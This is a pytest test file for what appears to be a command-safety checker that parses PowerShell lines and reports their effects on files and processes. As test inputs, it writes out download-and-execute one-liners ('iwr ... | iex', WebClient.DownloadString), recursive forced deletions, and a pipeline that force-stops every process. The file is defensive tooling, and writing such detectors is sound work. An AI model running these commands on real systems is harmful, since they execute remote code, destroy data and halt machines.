"""PowerShell's commands: their words, what flows through their pipes, and what it is done to."""

import pytest

from commands.lines import commands_in, effects_in, followed
from interlock.commands.shell.cmdlets import Cmdlet, cmdlet_of, same_words, static_calls

APP = "/home/dev/app"


def cmdlet(line: str) -> Cmdlet:
    """Return the last command of the line, taken apart."""
    return cmdlet_of(followed(line).commands[-1])


def test_words_are_taken_apart_as_powershell_does():
    given = cmdlet(r"Remove-Item .\a, 'b c' -Rec -Path C:\d -ea SilentlyContinue -LiteralPath: e")

    assert given.has("recurse")
    assert not given.has("whatif")
    assert given.operands == [".\\a", "b c"]
    assert given.values == {"path": ["C:\\d"], "ea": ["SilentlyContinue"], "literalpath": ["e"]}
    assert [word.text for word in given.paths] == ["C:/d", "e", "./a", "b c"]


def test_of_a_list_behind_a_parameter_all_are_paths():
    given = cmdlet("Remove-Item -Path a, b")

    assert given.values == {"path": ["a", "b"]}
    assert [word.text for word in given.paths] == ["a", "b"]


def test_every_pattern_of_a_list_is_looked_for_in_every_folder():
    given = cmdlet("Get-ChildItem a, b -Include bin, *.tmp")

    assert [word.text for word in given.paths] == ["a/bin", "a/*.tmp", "b/bin", "b/*.tmp"]


@pytest.mark.parametrize(
    ("line", "same"),
    [
        (r"Move-Item C:\Users\dev\* C:\temp", "mv C:/Users/dev/* C:/temp"),
        ("mi a -Destination $env:TEMP", "mv a $TEMP"),
        ("Copy-Item -Path a, b -Destination c -Recurse", "cp a b c"),
        ("Start-Process -FilePath a -ArgumentList '-x y'", "a -x y"),
        (r"saps .\a.exe -Wait", "./a.exe"),
        (r"robocopy C:\a C:\b /MIR", "rsync -r --delete C:/a/ C:/b/"),
        ("robocopy a b /e /PURGE", "rsync -r --delete a/ b/"),
    ],
)
def test_what_does_the_same_as_another_program_is_read_as_that(line: str, same: str):
    last = followed(f'pwsh -c "{line}"').commands[-1]

    assert last.line == same


@pytest.mark.parametrize(
    "line",
    [
        "Move-Item a b -WhatIf",
        "Move-Item",
        "robocopy a b /MIR /L",
        "robocopy a b /E",
        "robocopy a /MIR",
    ],
)
def test_what_changes_nothing_is_read_as_nothing(line: str):
    assert same_words(followed(line).commands[-1]) == []


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("$env:USERPROFILE\\x", "~/x"),
        ("$HOME", "~"),
        ("$env:TEMP/x", "$TMPDIR/x"),
        ("$PROFILE.AllUsers", "~/.config/powershell/profile.ps1"),
        ("$other/x", "$other/x"),
    ],
)
def test_variables_of_powershell_stand_for_places(written: str, meant: str):
    assert [word.text for word in Cmdlet([], {}, [written]).paths] == [meant]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        pytest.param(
            r"Remove-Item .\src -Recurse", "delete ./src in project, recursive, forced", id="tree"
        ),
        pytest.param("Remove-Item a.txt -Force", "delete a.txt in project", id="file"),
        pytest.param(r"ri -r -fo C:\d", "delete C:/d in outside, recursive, forced", id="short"),
        pytest.param(
            r"Get-ChildItem -Path C:\d -Filter *.py | Remove-Item",
            "delete C:/d/*.py in outside, from many",
            id="found",
        ),
        pytest.param("gci . | ri", "delete ./* in project, from many", id="folder"),
        pytest.param("gci a.py | ri", "delete a.py in project", id="one-file"),
        pytest.param(
            "cat list | Remove-Item", "delete ?$_ in unknown, from unknown-file", id="unknown"
        ),
        pytest.param(
            "gci x | % { ri $_ -r }",
            "delete x/* in project, recursive, forced, from many",
            id="each",
        ),
        pytest.param(
            "pwsh -c 'gci x | ForEach-Object { ri $_ -r }'",
            "delete x/* in project, recursive, forced, from many",
            id="each-in-a-line-for-it",
        ),
        pytest.param("gci x | % { ri $_", "delete x/* in project, from many", id="cut-off"),
        pytest.param("Clear-Content a.py", "overwrite a.py in project, from empty", id="emptied"),
        pytest.param("Set-Content a.py 'x'", "overwrite a.py in project", id="written"),
        pytest.param("Add-Content a.py 'x'", "append a.py in project", id="added"),
        pytest.param("echo x | Out-File a.py -Append", "append a.py in project", id="append"),
        pytest.param("iwr https://a.example/x -OutFile y", "overwrite y in project", id="fetched"),
        pytest.param("rm -Recurse -Force d", "delete d in project, recursive, forced", id="alias"),
    ],
)
def test_cmdlets_do_to_files_what_they_say(line: str, expected: str):
    assert expected in effects_in(line, APP)


@pytest.mark.parametrize(
    "line",
    [
        pytest.param("Remove-Item src -Recurse -WhatIf", id="what-if"),
        pytest.param(r"Remove-Item Env:\DEBUG", id="no-file"),
        pytest.param("gci x | ForEach-Object Name", id="a-property"),
    ],
)
def test_what_is_no_file_is_not_deleted(line: str):
    assert not [each for each in effects_in(line, APP) if each.startswith("delete")]


@pytest.mark.parametrize(
    "line",
    [
        pytest.param("iwr https://a.example/x | iex", id="piped"),
        pytest.param("iex (iwr https://a.example/x)", id="in-brackets"),
        pytest.param('iex "& { $(irm https://a.example/x) }"', id="substituted"),
        pytest.param(
            "iex ((New-Object Net.WebClient).DownloadString('https://a.example/x'))", id="method"
        ),
        pytest.param("iwr https://a.example/x -OutFile y.ps1; pwsh -File y.ps1", id="by-a-file"),
    ],
)
def test_what_was_fetched_is_run(line: str):
    assert any(each.startswith("execute") and "remote" in each for each in effects_in(line))


@pytest.mark.parametrize("line", ["iex -S mix", "iex -e 'IO.puts 1'", "iex", "iex (Get-Date)"])
def test_what_the_line_itself_shows_is_not_remote(line: str):
    assert effects_in(line) == []


@pytest.mark.parametrize(
    ("line", "ends_all"),
    [
        ("Get-Process | Stop-Process -Force", True),
        ("Get-Process node | Stop-Process", False),
        ("Stop-Process -Id 3", False),
        ("Get-ChildItem | Stop-Process", False),
    ],
)
def test_all_processes_are_ended_where_all_flow_in(line: str, ends_all: bool):
    assert ("code kill" in commands_in(line)) is ends_all


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ('[IO.Directory]::Delete("C:\\data", $true)', 'Remove-Item "C:\\data" -Recurse -Force'),
        ("[System.IO.File]::Delete('a.txt')", "Remove-Item 'a.txt'"),
        ("[io.file]::WriteAllText('a.txt', 'x')", "Set-Content 'a.txt'"),
        ("[IO.File]::Move('a', 'b')", "mv 'a' 'b'"),
        ("[Diagnostics.Process]::Start('cmd', '/c dir')", "cmd /c dir"),
        ("[IO.File]::Exists('a')", ""),
        ("[IO.FileInfo]::new('a.txt').Delete()", "Remove-Item 'a.txt'"),
        ("[System.IO.FileInfo]::new('a').MoveTo('b')", "mv 'a' elsewhere"),
        ("[IO.DirectoryInfo]::new('a').Refresh()", ""),
        ("[Environment]::SetEnvironmentVariable('PATH', 'x', 'Machine')", "setx 'PATH' x"),
        ("[Environment]::SetEnvironmentVariable('A', 'x', 'Process')", ""),
        ("[Environment]::GetEnvironmentVariables()", "printenv"),
    ],
)
def test_a_method_does_what_a_command_does(line: str, expected: str):
    assert list(static_calls(line)) == [expected]


@pytest.mark.parametrize(
    "line",
    [
        "[IO.Directory]::CreateDirectory('a')",
        "[Diagnostics.Process]::GetProcessById(1)",
        "[math]::Round(3.5)",
    ],
)
def test_other_methods_do_nothing_to_files(line: str):
    assert list(static_calls(line)) == []


def test_methods_are_followed_in_a_line_and_behind_a_shell():
    deleted = "delete C:/data in outside, recursive, forced"
    assert deleted in effects_in('[IO.Directory]::Delete("C:\\data", $true)')
    assert deleted in effects_in("powershell -c \"[IO.Directory]::Delete('C:\\data', 1)\"")
